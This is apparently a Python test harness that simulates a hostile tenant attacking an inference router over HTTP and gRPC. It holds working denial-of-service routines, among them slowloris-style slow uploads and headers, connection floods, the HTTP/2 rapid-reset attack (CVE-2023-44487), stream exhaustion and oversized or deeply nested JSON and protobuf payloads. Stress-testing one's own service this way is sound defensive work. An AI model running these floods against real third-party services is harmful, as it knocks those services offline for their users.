"""Attacks of a hostile tenant on a router. Each attack runs until it is cancelled, with limited
bandwidth.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from itertools import count
from typing import Any

import grpc
from http2_peer import Http2Peer

from kvrelay.wire.inference import InferenceServiceStub, pb

CONNECTIONS = 1000
# Concurrent calls on one gRPC connection.
CALLS = 16
BYTES_PER_SECOND = 50e6
GENERATE = "/kvrelay.v1.InferenceService/Generate"
# Bytes of the largest body or message. The router accepts 4 MiB.
MOST = 4 * 2**20 - 4096


@dataclass(slots=True)
class Target:
    """The addresses of a router, and the token of the hostile tenant."""

    # HOST:PORT.
    http: str
    grpc: str
    token: str


class Bandwidth:
    """Limits the bytes per second that all connections send together."""

    def __init__(self) -> None:
        self._free_at = 0.0

    async def take(self, size: int) -> None:
        """Waits until `size` bytes may be sent."""
        now = time.monotonic()
        self._free_at = max(self._free_at, now) + size / BYTES_PER_SECOND
        await asyncio.sleep(self._free_at - now)


Attack = Callable[[Target, Bandwidth, int], Awaitable[None]]


async def run(attack: Attack, target: Target, connections: int) -> None:
    """Runs the attack on each connection until cancelled. Reopens connections that end."""
    bandwidth = Bandwidth()
    async with asyncio.TaskGroup() as tasks:
        for number in range(connections):
            tasks.create_task(_forever(attack, target, bandwidth, number))


async def _forever(attack: Attack, target: Target, bandwidth: Bandwidth, number: int) -> None:
    while True:
        with contextlib.suppress(
            OSError, EOFError, grpc.aio.AioRpcError, asyncio.LimitOverrunError
        ):
            await attack(target, bandwidth, number)
        await asyncio.sleep(0.01)


# HTTP


def _head(target: Target, method: str, path: str, *more: str, token: bool = True) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", f"host: {target.http}", *more]
    if token:
        lines.append(f"authorization: Bearer {target.token}")
    return "\r\n".join([*lines, "", ""]).encode()


async def _connect(target: Target) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    host, _, port = target.http.rpartition(":")
    return await asyncio.open_connection(host, int(port))


async def _answered(reader: asyncio.StreamReader) -> None:
    """Reads one answer with a content-length, or an event stream to its end."""
    head = (await reader.readuntil(b"\r\n\r\n")).lower()
    length = head.partition(b"content-length: ")[2].partition(b"\r\n")[0]
    if length:
        await reader.readexactly(int(length))
    else:
        await reader.read()


def _repeated(path: str, body: bytes, method: str = "POST") -> Attack:
    """Returns an attack that repeats one request on persistent connections."""

    async def attack(target: Target, bandwidth: Bandwidth, number: int) -> None:
        reader, writer = await _connect(target)
        length = [f"content-length: {len(body)}"] if method == "POST" else []
        sent = _head(target, method, path, *length) + body
        try:
            while True:
                await bandwidth.take(len(sent))
                writer.write(sent)
                await writer.drain()
                await _answered(reader)
        finally:
            writer.close()

    return attack


def _completion(**fields: Any) -> bytes:
    return json.dumps({"model": "demo", "prompt": [11, 12, 13], "max_tokens": 8} | fields).encode()


async def _slow_upload(target: Target, bandwidth: Bandwidth, number: int) -> None:
    _reader, writer = await _connect(target)
    try:
        writer.write(_head(target, "POST", "/v1/completions", f"content-length: {MOST}"))
        writer.write(b" " * 2**20)
        for _ in range(60):
            await bandwidth.take(2**20)
            writer.write(b" " * 1000)
            await writer.drain()
            await asyncio.sleep(0.5)
    finally:
        writer.close()


async def _silent(target: Target, bandwidth: Bandwidth, number: int) -> None:
    reader, writer = await _connect(target)
    try:
        await reader.read()
    finally:
        writer.close()


async def _headers(target: Target, bandwidth: Bandwidth, number: int) -> None:
    """Sends headers without end, in small pieces."""
    _reader, writer = await _connect(target)
    try:
        writer.write(b"GET /v1/models HTTP/1.1\r\n")
        for index in count():
            writer.write(f"x-{index}: y\r\n".encode())
            await writer.drain()
            await asyncio.sleep(0.05)
    finally:
        writer.close()


async def _connects(target: Target, bandwidth: Bandwidth, number: int) -> None:
    """Opens a new connection for each request."""
    reader, writer = await _connect(target)
    try:
        writer.write(_head(target, "GET", "/v1/models", "connection: close"))
        await reader.read()
    finally:
        writer.close()


async def _strangers(target: Target, bandwidth: Bandwidth, number: int) -> None:
    reader, writer = await _connect(target)
    try:
        while True:
            writer.write(_head(target, "GET", "/v1/models", token=False))
            await _answered(reader)
    finally:
        writer.close()


async def _cancels(target: Target, bandwidth: Bandwidth, number: int) -> None:
    """Requests a long answer and disconnects immediately."""
    _reader, writer = await _connect(target)
    try:
        body = _completion(
            max_tokens=2000, stream=True, ignore_eos=True, prompt=[11, 12, number % 300 + 8]
        )
        writer.write(
            _head(target, "POST", "/v1/completions", f"content-length: {len(body)}") + body
        )
        await writer.drain()
        await asyncio.sleep(0.02)
    finally:
        writer.close()


# gRPC


def _calls(message: pb.GenerateRequest, least_s: float = 0.0) -> Attack:
    data = message.SerializeToString()

    async def attack(target: Target, bandwidth: Bandwidth, number: int) -> None:
        async with grpc.aio.insecure_channel(target.grpc) as channel:
            generate = channel.unary_stream(GENERATE, request_serializer=lambda raw: raw)
            while True:
                await bandwidth.take(len(data))
                with contextlib.suppress(grpc.aio.AioRpcError):
                    async for _ in generate(
                        data, metadata=(("authorization", f"Bearer {target.token}"),)
                    ):
                        pass

    return attack


async def _lists(target: Target, bandwidth: Bandwidth, number: int) -> None:
    async with grpc.aio.insecure_channel(target.grpc) as channel:
        stub = InferenceServiceStub(channel)
        while True:
            await stub.ListModels(
                pb.ListModelsRequest(), metadata=(("authorization", f"Bearer {target.token}"),)
            )


async def _grpc_strangers(target: Target, bandwidth: Bandwidth, number: int) -> None:
    """Runs several concurrent calls without a token on one connection."""

    async def call(stub: InferenceServiceStub) -> None:
        while True:
            with contextlib.suppress(grpc.aio.AioRpcError):
                await stub.ListModels(pb.ListModelsRequest())

    async with grpc.aio.insecure_channel(target.grpc) as channel:
        await asyncio.gather(*(call(InferenceServiceStub(channel)) for _ in range(CALLS)))


async def _resets(target: Target, bandwidth: Bandwidth, number: int) -> None:
    """Begins calls and cancels them at once ("rapid reset", CVE-2023-44487)."""
    await _streams(target, bandwidth, lambda peer, stream: peer.reset(stream))


async def _many_streams(target: Target, bandwidth: Bandwidth, number: int) -> None:
    """Begins as many calls as fast as the connection allows."""
    await _streams(target, bandwidth, lambda peer, stream: None)


async def _streams(
    target: Target, bandwidth: Bandwidth, then: Callable[[Http2Peer, int], None]
) -> None:
    message = pb.GenerateRequest(model="demo", prompt="a").SerializeToString()

    async def read(peer: Http2Peer) -> None:
        while True:
            await peer.credits()

    peer = await Http2Peer.connect(target.grpc)
    reading = asyncio.create_task(read(peer))
    try:
        while not reading.done():
            await bandwidth.take(CALLS * 250)
            for _ in range(CALLS):
                then(peer, peer.call(GENERATE, target.token, message))
            await peer.drain()
    finally:
        reading.cancel()
        peer.close()


def _empty_messages() -> pb.GenerateRequest:
    request = pb.GenerateRequest(model="demo")
    for _ in range(MOST // 2 - 16):
        request.messages.add()
    return request


def _many_stops() -> pb.GenerateRequest:
    request = pb.GenerateRequest(model="demo", prompt="a")
    request.sampling.stop.extend(["x"] * (MOST // 3 - 16))
    return request


def _duplicate_keys(size: int = 284_000) -> bytes:
    keys = ",".join(f'"k{number}":1' for number in range(size // 10))
    return b'{"model":"demo","prompt":"a","logit_bias":{' + keys.encode() + b"}}"


def _deep() -> bytes:
    return b'{"model":"demo","prompt":' + b"[" * (MOST // 2) + b"]" * (MOST // 2 - 64) + b"}"


def _many_objects() -> bytes:
    return b'{"model":"demo","messages":[' + b"{}," * (MOST // 3 - 64) + b"{}]}"


# name -> (attack, connections). Attacks with large messages saturate the bandwidth with fewer
# connections.
CATALOGUE: dict[str, tuple[Attack, int]] = {
    "grpc empty messages": (_calls(_empty_messages()), 12),
    "grpc stop lists": (_calls(_many_stops()), 12),
    "grpc long text": (
        _calls(pb.GenerateRequest(model="demo", prompt="a b " * (MOST // 4 - 16))),
        12,
    ),
    "grpc list models": (_lists, 64),
    "grpc strangers": (_grpc_strangers, 64),
    "grpc rapid resets": (_resets, 4),
    "grpc many streams": (_many_streams, 4),
    "grpc rapid resets, 32 connections": (_resets, 32),
    "grpc many streams, 32 connections": (_many_streams, 32),
    "json duplicate keys": (_repeated("/v1/completions", _duplicate_keys()), 64),
    "json many objects": (_repeated("/v1/chat/completions", _many_objects()), 64),
    "json deep": (_repeated("/v1/completions", _deep()), 64),
    "json 60 kB": (_repeated("/v1/completions", _completion(prompt="a b " * 15_000)), CONNECTIONS),
    "http long text": (_repeated("/tokenize", _completion(prompt="a b " * (MOST // 4 - 64))), 64),
    "http slow uploads": (_slow_upload, CONNECTIONS),
    "http silent connections": (_silent, CONNECTIONS),
    "http slow headers": (_headers, CONNECTIONS),
    "http new connections": (_connects, 200),
    "http strangers": (_strangers, CONNECTIONS),
    "http polls of metrics": (_repeated("/metrics", b"", "GET"), CONNECTIONS),
    "http polls of status": (_repeated("/status.json", b"", "GET"), CONNECTIONS),
    "http bad requests": (_repeated("/v1/completions", b"{}"), CONNECTIONS),
    "cancels": (_cancels, 64),
    "long answers": (
        _repeated("/v1/completions", _completion(max_tokens=2000, n=8, ignore_eos=True)),
        256,
    ),
}
